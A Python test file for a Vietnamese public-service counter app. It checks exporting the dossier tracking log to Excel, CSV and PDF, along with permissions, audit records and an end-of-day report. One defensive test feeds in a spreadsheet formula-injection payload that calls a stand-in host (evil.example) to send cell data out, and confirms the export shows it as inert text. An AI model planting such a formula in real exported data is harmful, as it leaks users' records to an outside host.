"""The tracking log exported from a real store, read back as its readers would.

openpyxl reads the workbook (every dossier of the period, exact Vietnamese, the columns in
the form set's order, days as dates, the print set-up); ``csv`` reads the CSV after its BOM;
pdftotext reads the PDF (every code, the chain head). The CLI writes owner-only files and
never replaces one without ``--force``.
"""

from __future__ import annotations

import csv
import io
import json
import os
import stat
import subprocess
import sys
from datetime import date, datetime
from pathlib import Path

import openpyxl
import pytest

from counter_app.documents.log_csv import column_header
from counter_app.documents.log_model import load_log_layout
from counter_app.domain.dossier import Dossier, Status
from counter_app.services.dossiers.changes import transition_dossier, void_dossier
from counter_app.services.intake.receive import receive_dossier
from counter_app.services.store.opening import Store
from counter_app.services.supervision.tracking_log import (
    LogFormat,
    LogPeriodInvalidError,
    LogRequest,
    export_tracking_log,
)
from counter_app.services.users import RoleNotAllowedError
from counter_app.storage.audit import audit_head, iter_audit
from tests.dossier_helpers import CLERK, citizen, configure, intake, vn

NAMES = ("Nguyễn Thị Thuỷ", "Đặng Văn Ước", "Trần Quốc Bảo", "Lê Thị Hồng Nhung", "Bùi Đức Ưng")
ADDRESS = "Số 7 phố Hàng Bạc, phường Hoàn Kiếm, Hà Nội"
FIRST, LAST = date(2026, 11, 2), date(2026, 11, 3)
EXPORTED_AT = vn(2026, 11, 5, 16, 30)
SUPERVISOR = "user:binh"


@pytest.fixture
def store(new_store: Store) -> Store:
    configure(new_store)
    return new_store


@pytest.fixture
def received(store: Store) -> list[Dossier]:
    """Five dossiers in the period (one moved along to its return, one voided), one after."""
    saved = []
    for n, name in enumerate(NAMES):
        moment = vn(2026, 11, 2 + n // 3, 8 + n, 15)
        person = citizen(name=name, id_number=f"0011890042{n:02d}", address=ADDRESS)
        saved.append(receive_dossier(store, intake(person), clerk=CLERK, now=moment))
    code = saved[0].code
    for target, day in ((Status.IN_PROCESS, 3), (Status.RESULT_READY, 4), (Status.RETURNED, 5)):
        handed = {"recipient": NAMES[0]} if target == Status.RETURNED else None
        transition_dossier(store, code, target, actor=CLERK, now=vn(2026, 11, day, 10, 0),
                           details=handed)  # fmt: skip
    void_dossier(
        store,
        saved[4].code,
        reason="Nhập nhầm",
        actor=CLERK,
        role="supervisor",
        now=vn(2026, 11, 3, 15),
    )
    after = citizen(name="Không Thuộc Kỳ", id_number="001189009999")
    receive_dossier(store, intake(after), clerk=CLERK, now=vn(2026, 11, 4, 9, 0))
    return saved


def _export(store: Store, fmt: LogFormat) -> bytes:
    request = LogRequest(FIRST, LAST, fmt)
    exported = export_tracking_log(
        store, request, actor=SUPERVISOR, role="supervisor", now=EXPORTED_AT
    )
    assert exported.rows == len(NAMES)
    return exported.data


def test_the_workbook_holds_every_dossier_with_exact_text_and_real_dates(
    store: Store, received: list[Dossier]
) -> None:
    book = openpyxl.load_workbook(io.BytesIO(_export(store, LogFormat.XLSX)))
    sheet = book.active
    columns = load_log_layout("2025").columns
    header_top, labels, first = 7, 8, 10
    grouped = [sheet.cell(header_top, i + 1).value for i, c in enumerate(columns) if c.group]
    assert grouped[0] == "Ngày, tháng, năm" and set(grouped[1:]) == {None}  # merged
    read_labels = [
        sheet.cell(labels if c.group else header_top, i + 1).value for i, c in enumerate(columns)
    ]
    assert read_labels == [c.label for c in columns]
    assert read_labels[:3] == ["Số TT", "Mã hồ sơ", "Tên thủ tục hành chính"]
    rows = [
        [cell.value for cell in row] for row in sheet.iter_rows(min_row=first, max_row=first + 4)
    ]
    assert [row[1] for row in rows] == [d.code for d in received]
    assert [row[4] for row in rows] == list(NAMES)
    assert rows[0][5] == f"{ADDRESS}, 0912345678"
    assert rows[0][2] == "Cấp Giấy xác nhận tình trạng hôn nhân"
    for row, dossier in zip(rows, received, strict=True):
        assert (
            isinstance(row[7], datetime) and row[7].date().isoformat() == dossier.received_at[:10]
        )
    assert rows[0][9] == datetime(2026, 11, 3) and rows[0][10] == datetime(2026, 11, 4)
    assert rows[0][11] == datetime(2026, 11, 5)
    assert rows[4][12] == "Đã hủy" and rows[1][9] is None
    assert sheet.cell(first + 5, 2).value is None  # the dossier of 4 November is not in it
    assert sheet.freeze_panes == "C10"
    assert sheet.print_title_rows == "$7:$9"
    assert sheet.page_setup.orientation == "landscape" and sheet.page_setup.paperSize == 9  # A4
    assert sheet["A3"].value == "SỔ THEO DÕI HỒ SƠ"
    assert sheet["A4"].value == "Từ ngày 02/11/2026 đến ngày 03/11/2026"
    assert "&P" in sheet.oddFooter.right.text


def test_the_csv_starts_with_a_bom_and_reads_back_through_csv(
    store: Store, received: list[Dossier]
) -> None:
    data = _export(store, LogFormat.CSV)
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    columns = load_log_layout("2025").columns
    assert rows[0] == [column_header(c) for c in columns]
    assert rows[0][7] == "Nhận hồ sơ (Ngày, tháng, năm)"
    assert len(rows) == 1 + len(NAMES)
    assert [row[1] for row in rows[1:]] == [d.code for d in received]
    assert [row[4] for row in rows[1:]] == list(NAMES)
    assert rows[1][7] == "2026-11-02" and rows[1][11] == "2026-11-05"


def test_the_pdf_holds_every_code_and_the_chain_head(
    store: Store, received: list[Dossier], tmp_path: Path
) -> None:
    pdf = tmp_path / "log.pdf"
    pdf.write_bytes(_export(store, LogFormat.PDF))
    text = subprocess.run(["pdftotext", "-layout", str(pdf), "-"], capture_output=True,
                          text=True, check=True).stdout  # fmt: skip
    head = audit_head(store.db)
    for dossier in received:
        assert dossier.code in text
    # In drawing order (-raw), a name wrapped in its cell reads as consecutive lines.
    raw = subprocess.run(["pdftotext", "-raw", str(pdf), "-"], capture_output=True, text=True,
                         check=True).stdout.replace("\n", " ")  # fmt: skip
    for name in NAMES:
        assert name in raw
    assert f"#{head.seq} {head.hash[:16]}" in text
    assert "SỔ THEO DÕI HỒ SƠ" in text and "Trang 1/1" in text
    assert "Xuất lúc 16:30 05/11/2026" in text


def test_each_export_is_audited_with_the_user_and_the_row_count(
    store: Store, received: list[Dossier]
) -> None:
    del received
    _export(store, LogFormat.CSV)
    row = [r for r in iter_audit(store.db) if r.action == "log.export"][-1]
    assert row.actor == SUPERVISOR and row.subject == "2026-11-02..2026-11-03"
    assert '"rows": 5' in row.details and '"format": "csv"' in row.details


def test_a_clerk_may_not_export_and_a_period_must_make_sense(store: Store) -> None:
    with pytest.raises(RoleNotAllowedError):
        export_tracking_log(store, LogRequest(FIRST, LAST, LogFormat.CSV), actor=CLERK,
                            role="clerk", now=EXPORTED_AT)  # fmt: skip
    with pytest.raises(LogPeriodInvalidError):
        export_tracking_log(store, LogRequest(LAST, FIRST, LogFormat.CSV), actor=SUPERVISOR,
                            role="supervisor", now=EXPORTED_AT)  # fmt: skip


def test_one_counters_log_leaves_out_the_other_counters(store: Store) -> None:
    receive_dossier(store, intake(citizen()), clerk=CLERK, now=vn(2026, 11, 2, 9))
    configure(store, counter=2)
    other = receive_dossier(store, intake(citizen(name="Vũ Thị Ngân")), clerk=CLERK,
                            now=vn(2026, 11, 2, 10))  # fmt: skip
    request = LogRequest(FIRST, FIRST, LogFormat.CSV, counter=2)
    data = export_tracking_log(store, request, actor=SUPERVISOR, role="supervisor",
                               now=EXPORTED_AT).data  # fmt: skip
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert [row[1] for row in rows[1:]] == [other.code]


def test_the_command_writes_an_owner_only_file_and_never_replaces_one(
    store: Store, received: list[Dossier], tmp_path: Path
) -> None:
    del received
    folder = store.folder
    store.close()
    out = tmp_path / "so-theo-doi.xlsx"
    command = [sys.executable, "-m", "counter_app", "--data-dir", str(folder), "export",
               "daily-log", "--from", "2026-11-02", "--to", "2026-11-03", "--format", "xlsx",
               "--out", str(out), "--json"]  # fmt: skip
    first = subprocess.run(command, capture_output=True, text=True, check=False)
    assert first.returncode == 0, first.stderr
    assert '"rows": 5' in first.stdout
    assert stat.S_IMODE(os.stat(out).st_mode) == 0o600
    again = subprocess.run(command, capture_output=True, text=True, check=False)
    assert again.returncode == 2 and "OUTPUT_EXISTS" in again.stdout + again.stderr
    forced = subprocess.run([*command, "--force"], capture_output=True, text=True, check=False)
    assert forced.returncode == 0, forced.stderr


@pytest.mark.parametrize("fmt", list(LogFormat))
def test_an_empty_period_still_gives_a_log_with_its_header(store: Store, fmt: LogFormat) -> None:
    request = LogRequest(date(2026, 1, 1), date(2026, 1, 31), fmt)
    exported = export_tracking_log(store, request, actor=SUPERVISOR, role="supervisor",
                                   now=EXPORTED_AT)  # fmt: skip
    assert exported.rows == 0 and exported.data


def test_the_end_of_day_command_lists_the_gaps_and_records_the_sign_off(
    store: Store, received: list[Dossier]
) -> None:
    folder = store.folder
    store.close()
    base = [sys.executable, "-m", "counter_app", "--data-dir", str(folder), "report", "eod",
            "--date", "2026-11-02", "--json"]  # fmt: skip
    shown = subprocess.run(base, capture_output=True, text=True, check=False)
    assert shown.returncode == 1, shown.stderr  # never printed, never sent: gaps to chase
    report = json.loads(shown.stdout)
    assert report["received"] == 3 and report["printed"] == 0 and report["sign_offs"] == []
    gaps = {(d["code"], d["gap"]) for d in report["discrepancies"]}
    assert (received[0].code, "not_printed") in gaps and (received[0].code, "not_sent") in gaps
    signed = subprocess.run([*base, "--sign-off"], capture_output=True, text=True, check=False)
    assert len(json.loads(signed.stdout)["sign_offs"]) == 1
    words = [*base[:3], "--lang", "vi", *base[3:-1]]  # the words, not the JSON
    again = subprocess.run(words, capture_output=True, text=True, check=False)
    assert "Đã ký xác nhận cuối ngày" in again.stdout and "chưa in phiếu tiếp nhận" in again.stdout


def test_a_typed_formula_reaches_the_csv_as_text_a_spreadsheet_shows(store: Store) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&B2,"Xem")'
    person = citizen(name=NAMES[1], id_number="001189004201", address=formula)
    receive_dossier(store, intake(person), clerk=CLERK, now=vn(2026, 11, 2, 9, 0))
    request = LogRequest(FIRST, LAST, LogFormat.CSV)
    data = export_tracking_log(store, request, actor=SUPERVISOR, role="supervisor",
                               now=EXPORTED_AT).data  # fmt: skip
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    address = rows[1][5]
    assert address.startswith("'=HYPERLINK(")  # shown as typed, never run
    assert formula in address
